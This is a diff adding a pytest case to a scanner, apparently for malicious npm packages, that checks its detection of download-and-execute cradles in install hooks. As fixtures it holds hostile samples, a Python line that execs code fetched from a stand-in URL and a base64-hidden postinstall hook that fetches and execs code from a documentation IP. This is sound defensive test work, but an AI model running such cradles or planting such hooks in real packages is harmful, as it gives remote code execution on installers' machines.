@@ -2,12 +2,13 @@
 
 from __future__ import annotations
 
+import base64
 import json
 
 import pytest
 
 from npmward.analyzers.base import AnalysisContext
-from npmward.analyzers.install_scripts import InstallScriptAnalyzer, lifecycle_entry_files
+from npmward.analyzers.install_scripts import InstallScriptAnalyzer, judge_command, lifecycle_entry_files
 from npmward.model import Artifact, Level, PackageId, Severity
 from npmward.verdict import decide
 
@@ -574,6 +575,20 @@ def test_python_file_a_hook_runs_that_pipes_a_download_into_a_shell_is_malicious
     # Python's own exec of what it downloads is the same cradle.
     exec_stager = b"import urllib.request\nexec(urllib.request.urlopen('https://cdn.example/s.py').read())\n"
     assert "install-script/fetch-and-execute" in rules(artifact({"install": "python setup_native.py"}, {"setup_native.py": exec_stager}))
+
+
+def test_python_inline_code_that_execs_a_download_hidden_in_base64_is_a_cradle():
+    # (blind set 23's jupyter-kernelspecs: `spawn(bin, ['-c', "import base64;exec(base64.b64decode('…'))"])`, the
+    # interpreter a variable; the decoded stage opens a URL and execs what it reads)
+    stage = base64.b64encode(b"import urllib.request as u\nexec(u.urlopen('http://198.51.100.23:1224/c').read().decode())")
+    hook = {"postinstall": "python3 -c \"import base64;exec(base64.b64decode('" + stage.decode() + "'))\""}
+    run = next(f for f in findings(artifact(hook)) if f.rule == "install-script/fetch-and-execute")
+    assert run.severity is Severity.CRITICAL and run.details["hidden"] is True
+    found = list(judge_command("${*} -c import base64;exec(base64.b64decode('" + stage.decode() + "'))", "entry", "x.js", 3, "x"))
+    assert "install-script/fetch-and-execute" in {f.rule for f in found}
+    # Inline code that decodes a constant and prints it downloads nothing.
+    quiet = base64.b64encode(b"print('hello from the kernel probe')").decode()
+    assert "install-script/fetch-and-execute" not in rules(artifact({"install": f"python3 -c \"import base64;print(base64.b64decode('{quiet}'))\""}))
 
 
 def test_python_build_script_a_hook_runs_that_downloads_and_builds_is_not_a_cradle():
